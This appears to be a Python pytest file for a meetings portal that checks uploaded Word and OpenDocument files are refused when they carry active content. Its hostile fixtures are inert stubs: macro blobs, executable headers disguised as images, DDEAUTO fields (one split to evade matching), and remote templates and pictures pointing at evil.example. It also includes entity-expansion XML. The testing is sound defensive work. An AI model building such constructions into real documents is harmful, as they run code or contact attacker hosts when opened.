"""Office files that would do something when opened are known by what is in them, whatever it is called."""

import io
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from cluster_portal.files import word_base
from cluster_portal.files.active_content import ActiveContent, refuse_active_content
from meetings.uploads import UnusableFile, read_speech_file

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT = "application/vnd.oasis.opendocument.text"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 rest"


def base(**parts):
    """A Word file as Word writes it, with further parts, or others in their place."""
    file = io.BytesIO()
    docx.Document().save(file)
    return packed(dict(unpacked(file.getvalue())) | parts)


def unpacked(content):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return [(name, package.read(name)) for name in package.namelist()]


def packed(parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return file.getvalue()


def rels(kind, target, mode="TargetMode='External'"):
    one = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" {mode}/>'
    return f'<Relationships xmlns="{RELS}">{one}</Relationships>'


def field(*runs):
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    told = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:ftr xmlns:w="{space}"><w:p>{told}</w:p></w:ftr>'


def chart(**parts):
    return packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", **parts})


def odt(content="<a/>", **parts):
    return packed({"mimetype": ODT, "content.xml": content, **parts})


XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'

SETTINGS = "word/_rels/settings.xml.rels"
TEMPLATE = rels("attachedTemplate", "http://evil.example/t.dotm")
OTHERWISE = rels("attachedTemplate", "\\\\evil\\t", "TargetMode = '&#69;xternal'")
UTF_16 = '<?xml version="1.0" encoding="UTF-16"?>'
MACRO_TYPE = (
    '<Types><Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)

HOSTILE = {
    "a macro": base(**{"word/vbaProject.bin": OLE}),
    "a macro by another name": base(**{"word/media/image7.png": OLE}),
    "a macro declared only": base(**{"[Content_Types].xml": MACRO_TYPE}),
    "a program": base(**{"word/media/image1.png": b"MZ\x90\x00"}),
    "a program for Linux": base(**{"customXml/item1.dat": b"\x7fELF\x02"}),
    "an embedded object": base(**{"word/embeddings/oleObject1.bin": OLE}),
    "an embedded file": base(**{"word/embeddings/a.txt": b"echo"}),
    "a workbook with a macro within": base(**{"word/embeddings/a.xlsx": chart(**{"xl/vbaProject.bin": OLE})}),
    "a package in a package in a package": base(**{"word/embeddings/a.xlsx": chart(**{"b.xlsx": chart()})}),
    "ActiveX": base(**{"word/activeX/activeX1.xml": "<a/>"}),
    "a template from elsewhere": base(**{SETTINGS: TEMPLATE}),
    "a template, written otherwise": base(**{SETTINGS: OTHERWISE}),
    "a template in UTF-16": base(**{SETTINGS: (UTF_16 + TEMPLATE).encode("utf-16")}),
    "a picture from elsewhere": base(**{"word/_rels/header1.xml.rels": rels("image", "https://evil.example/p.png")}),
    "a link to a program": base(**{"word/_rels/footer1.xml.rels": rels("hyperlink", "file:///C:/Windows/x.exe")}),
    "DDE": base(**{"word/footer9.xml": field("DDEAUTO c:\\\\windows\\\\x.exe")}),
    "DDE cut into runs": base(**{"word/footer9.xml": field("DD", "EAU", "TO c:\\\\x.exe")}),
    "a picture by a field": base(**{"word/footer9.xml": field("INCLUDEPICTURE http://evil.example/p.png")}),
    "a Basic macro": odt(**{"Basic/Standard/Module1.xml": "<a/>"}),
    "an event with a script": odt(f'<a {XLINK}><event-listener xlink:href="vnd.sun.star.script:x"/></a>'),
    "a picture of OpenDocument from elsewhere": odt(f'<a {XLINK}><image xlink:href="https://evil.example/p.png"/></a>'),
    "an object of OpenDocument": odt(**{"Object 1/content.xml": "<a/>"}),
}  # fmt: skip

HARMLESS = {
    "a Word file": base(),
    "a link to click": base(**{"word/_rels/footer1.xml.rels": rels("hyperlink", "https://vanban.chinhphu.vn/")}),
    "a page number": base(**{"word/footer9.xml": field("PAGE", " HYPERLINK ")}),
    "a chart's workbook": base(**{"word/embeddings/Microsoft_Excel_Sheet.xlsx": chart()}),
    "OpenDocument with a picture of its own": odt(f'<a {XLINK}><image xlink:href="Pictures/1.png"/></a>'),
}


def examine(content):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        refuse_active_content(package)


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_what_would_do_something_is_refused(content):
    with pytest.raises(ActiveContent):
        examine(content)
    with pytest.raises(UnusableFile):
        read_speech_file(SimpleUploadedFile("a.docx", content))


@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
def test_what_does_nothing_is_taken(content):
    examine(content)
    read_speech_file(SimpleUploadedFile("a.docx", content))


@pytest.mark.parametrize(
    "part", ["<a", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "<a>" * 5000], ids=["cut off", "entities", "deep"]
)
def test_what_can_not_be_looked_through_is_refused(part):
    with pytest.raises(zipfile.BadZipFile):
        examine(base(**{"word/footer9.xml": part}))
    with pytest.raises(UnusableFile):
        read_speech_file(SimpleUploadedFile("a.docx", base(**{"word/footer9.xml": part})))


def test_a_base_of_word_files_is_refused_with_its_reason(as_user, secretariat, cluster):
    upload = SimpleUploadedFile("mau.docx", HOSTILE["a template from elsewhere"])

    page = as_user(secretariat).post("/documents/word-base/", {"file": upload})

    assert "lấy nội dung từ nơi khác" in page.text


def test_the_standard_base_is_taken():
    word_base.check_base(word_base.standard_base())


def with_password(content):
    """The packed file, said to be locked in the directory and before each part."""
    content = bytearray(content)
    for mark, flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = content.find(mark)
        while at >= 0:
            content[at + flags] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def with_broken_part(content, name):
    """The packed file, where what `name` is packed into is overwritten."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {each: package.read(each) for each in package.namelist()}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for each, part in parts.items():
            package.writestr(each, part)
        begin = package.getinfo(name).header_offset + 30 + len(name)
    content = bytearray(file.getvalue())
    content[begin : begin + 12] = b"\xff" * 12
    return bytes(content)


@pytest.mark.parametrize(
    "content",
    [
        with_password(base()),
        with_broken_part(base(), "word/document.xml"),
        with_broken_part(base(), "docProps/thumbnail.jpeg"),
        with_broken_part(base(), "word/styles.xml")[:9000],
    ],
)
def test_what_is_locked_damaged_or_cut_off_is_no_word_file(content):
    with pytest.raises(word_base.UnusableBase):
        word_base.check_base(content)
    with pytest.raises(UnusableFile):
        read_speech_file(SimpleUploadedFile("a.docx", content))
